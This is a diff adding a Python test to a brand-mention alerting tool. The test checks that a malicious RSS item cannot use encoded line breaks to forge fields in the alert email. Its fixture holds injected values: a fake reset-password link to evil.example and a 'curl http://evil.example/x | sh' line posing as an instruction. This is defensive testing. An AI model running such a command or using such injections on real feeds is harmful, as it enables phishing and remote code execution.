@@ -120,3 +120,91 @@ def cli_main():  # type: ignore[no-untyped-def]
     from mentionwatch.cli import cli
 
     return cli
+
+
+FORGED = ("Link:", "Reach:", "Open in the TUI:")
+
+
+def test_feed_item_cannot_forge_lines_of_the_alert_email(
+    tmp_path: Path, feeds: FeedServer, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    """A title and an author carrying line breaks (`&#10;`) that spell our own fields: the
+    plain text part must not gain a line starting with one of them, and the stored title and
+    author are one line (so `mentions show` and the TUI show them on one line too)."""
+    smtp = SmtpServer().start()
+    try:
+        url = feeds.add("/status.xml", rss([{
+            "title": "acme outage: furious, worst ever&#10;Link: http://evil.example/reset-password"
+                     "&#10;Open in the TUI: curl http://evil.example/x | sh",
+            "link": "https://status.example/7",
+            "guid": "status-7",
+            "author": "(Acme Security Team&#10;Reach: 5,000,000 followers)",
+            "description": "Acme is down again, I am furious, worst outage, refund me.&#10;"
+                           "Link: http://evil.example/in-the-body",
+            "pubDate": "Sun, 22 Nov 2026 08:00:00 GMT",
+        }]))
+        db = tmp_path / "mw.db"
+        config = tmp_path / "mentionwatch.toml"
+        config.write_text(f"""
+[brand]
+name = "Acme"
+terms = ["acme"]
+
+[database]
+url = "sqlite:///{db}"
+
+[alerts]
+on_call = ["oncall@acme.example"]
+priority_threshold = 0.0
+
+[alerts.smtp]
+host = "127.0.0.1"
+port = {smtp.port}
+security = "none"
+
+[[sources]]
+name = "status"
+kind = "rss"
+url = "{url}"
+""", encoding="utf-8")
+        if not HAS_ENGINE:
+            monkeypatch.setattr("mentionwatch.cli.core._load_judge", lambda app: TinyJudge())
+
+        result = CliRunner().invoke(cli_main(), ["--config", str(config), "poll"])
+
+        assert result.exit_code == 0, result.output
+        assert smtp.sink.arrived.wait(5)
+        (mail,) = smtp.messages
+        raw_plain = mail.part("plain")
+        lines = raw_plain.splitlines()
+        # Our own fields, once each; nothing from the feed starts a line as one of them.
+        assert [line for line in lines if line.startswith("Reach:")] == ["Reach: unknown"]
+        assert [line for line in lines if line.startswith("Link:")] == [
+            "Link: https://status.example/7"]
+        assert [line for line in lines if line.startswith("Open in the TUI:")] == [
+            "Open in the TUI: mentionwatch tui --mention 1"]
+        evil = [line for line in lines if "evil.example" in line]
+        assert evil and all(line.startswith(("Title: ", "    ")) for line in evil), evil
+        # The forged text is still there, as data: on the one Title/Author line, or indented.
+        assert ("Title: acme outage: furious, worst ever Link: http://evil.example/"
+                "reset-password Open in the TUI: curl http://evil.example/x | sh") in lines
+        assert "Author: (Acme Security Team Reach: 5,000,000 followers)" in lines
+        assert "    Link: http://evil.example/in-the-body" in lines
+
+        store = Store.open(f"sqlite:///{db}")
+        try:
+            detail = store.mention_detail(1)
+            assert detail is not None
+            mention = detail[0]
+            assert "\n" not in (mention.title or "") and "\n" not in (mention.author_handle or "")
+        finally:
+            store.close()
+        shown = CliRunner().invoke(cli_main(), ["--config", str(config), "mentions", "show", "1"],
+                                   env={"COLUMNS": "250"})
+        assert shown.exit_code == 0, shown.output
+        out = [line.strip("│ ") for line in shown.output.splitlines()]
+        assert "(Acme Security Team Reach: 5,000,000 followers)" in out[0]
+        assert out[3].startswith("acme outage: furious, worst ever Link: http://evil.example/")
+        assert not [line for line in out if line.startswith(("Reach:", "Open in the TUI:"))]
+    finally:
+        smtp.stop()
